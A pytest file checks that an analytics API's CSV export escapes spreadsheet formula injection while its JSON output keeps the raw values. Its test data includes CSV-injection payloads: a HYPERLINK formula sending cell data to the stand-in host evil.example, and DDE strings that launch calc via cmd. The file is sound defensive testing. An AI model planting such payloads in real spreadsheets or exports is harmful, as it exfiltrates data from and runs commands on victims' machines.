"""What the shop's rows may hold does nothing to whoever opens the CSV; JSON has it as it is."""

import contextlib
import csv
import io
from decimal import Decimal

import psycopg
import pytest
from fastapi.testclient import TestClient

from include.analytics.api.formats import as_csv
from include.analytics.app import application
from include.analytics.reading.postgres import PostgresReader
from tests.conftest import WarehouseDb

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


@pytest.mark.parametrize(
    "text",
    [HOSTILE, "=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1", "\r=1"],
)
def test_what_a_spreadsheet_would_execute_is_a_text(text: str):
    assert cells(text) == [f"'{text}"]


@pytest.mark.parametrize(
    "text", ["Sailcloth", "", "'=1", "+44 (0)1803 637-401", "-12.50", "-1E+5", "a=b", "x@y.example"]
)
def test_what_it_would_not_stays_as_it_is(text: str):
    assert cells(text) == [text]


def test_values_that_are_no_texts_stay_as_they_are():
    assert cells(Decimal("-3.50"), -2, None, True) == ["-3.50", "-2", "", "True"]


def cells(*values: object) -> list[str]:
    written = b"".join(as_csv([f"column_{n}" for n in range(len(values))], [values], iter(()))).decode()
    _, row = csv.reader(io.StringIO(written, newline=""))
    return row


def test_a_formula_in_the_warehouse_is_none_in_a_download(filled_db: WarehouseDb):
    with psycopg.connect(filled_db.loader) as loader:
        loader.execute("UPDATE dim_design SET design_name = %s WHERE design_id = 1", [HOSTILE])
    asked = {"where": "design_id:eq:1", "fields": "design_name"}
    with contextlib.closing(PostgresReader(filled_db.analyst)) as reader:
        client = TestClient(application(lambda: reader))
        downloaded = client.get("/api/v1/tables/dim_design", params={**asked, "format": "csv"}).text
        assert list(csv.reader(io.StringIO(downloaded)))[1:] == [[f"'{HOSTILE}"]]
        assert client.get("/api/v1/tables/dim_design", params=asked).json()["rows"] == [{"design_name": HOSTILE}]
